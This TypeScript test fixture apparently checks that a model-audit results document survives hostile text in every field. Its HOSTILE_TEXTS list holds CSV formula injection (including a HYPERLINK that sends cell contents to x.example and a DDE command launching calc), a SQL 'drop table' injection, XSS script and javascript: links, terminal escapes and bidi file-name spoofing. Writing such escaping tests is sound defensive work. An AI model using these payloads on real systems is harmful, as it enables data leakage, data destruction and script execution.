import type { ResultDocument } from '@jokbo/contracts';
import { resultDocument } from './result-document.js';

/** Texts that do something where they are not treated as data. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://x.example/?"&A1)',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "x'); drop table results; --",
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '[click](javascript:alert(1)) ![x](https://x.example/a.png) https://x.example www.x.example',
  'a | b\n# heading\n\n- item\n```\ncode',
  '\u001b[31mred\u001b]0;title\u0007\u009b2J',
  'safe\u202egnp.exe\u2066\u200b\u{e0041}',
  '{0} {{x}} [text](1) \\',
  'lone \ud800 surrogate',
  '"quoted", comma; \u0000 null',
];

/** An audit in which every name, id and sentence is hostile. */
export function hostileDocument(): ResultDocument {
  const { leaderboard, models, pairs, ...rest } = resultDocument();
  const text = (at: number): string => HOSTILE_TEXTS[at % HOSTILE_TEXTS.length] ?? '';
  const idOf = new Map(models.map(({ id }, at) => [id, `${text(at)} ${at}`]));
  const renamed = (id: string): string => idOf.get(id) ?? id;
  return {
    ...rest,
    programme: { ...rest.programme, name: HOSTILE_TEXTS.join(' ') },
    rules: { ...rest.rules, id: text(9) },
    caveats: HOSTILE_TEXTS,
    statements: leaderboard.map(({ subject }, at) => ({
      subject: renamed(subject),
      declared: HOSTILE_TEXTS.map((from, n) => ({
        from,
        reference: n === 0 ? renamed(pairs[0]?.reference ?? '') : null,
        components: ['mlp' as const],
        note: text(at + n),
        date: '2026-01-05',
        author: text(at + n + 1),
      })),
      replies: HOSTILE_TEXTS.map((said, n) => ({
        reference: n === 0 ? renamed(pairs[0]?.reference ?? '') : null,
        component: null,
        date: '2026-01-12',
        author: text(n + 1),
        text: said,
      })),
    })),
    models: models.map((model, at) => ({
      ...model,
      id: renamed(model.id),
      name: text(at),
      team: model.team === null ? null : text(at + 1),
      family: model.family === null ? null : text(at + 2),
      model_type: text(at + 3),
      files: model.files.map((file, n) => ({ ...file, path: `../${text(at + n)}` })),
    })),
    leaderboard: leaderboard.map((row, at) => ({
      ...row,
      subject: renamed(row.subject),
      release: text(at),
      team: text(at + 1),
      nearest: row.nearest === null ? null : renamed(row.nearest),
      ...(row.nearest === null ? {} : { nearest_ties: [row.nearest, row.nearest].map(renamed) }),
      components: row.components.map((item) => ({
        ...item,
        nearest: item.nearest === null ? null : renamed(item.nearest),
      })),
    })),
    pairs: pairs.map((pair, at) => ({
      ...pair,
      subject: renamed(pair.subject),
      reference: renamed(pair.reference),
      reproduce: text(at),
      verdict: {
        ...pair.verdict,
        subject: renamed(pair.subject),
        reference: renamed(pair.reference),
        components: pair.verdict.components.map((item, n) => ({
          ...item,
          statistic: text(at + n),
          type: text(at + n + 1),
          reasons: item.reasons.map((reason) => ({ ...reason, code: text(at + n + 2) })),
        })),
      },
    })),
  };
}
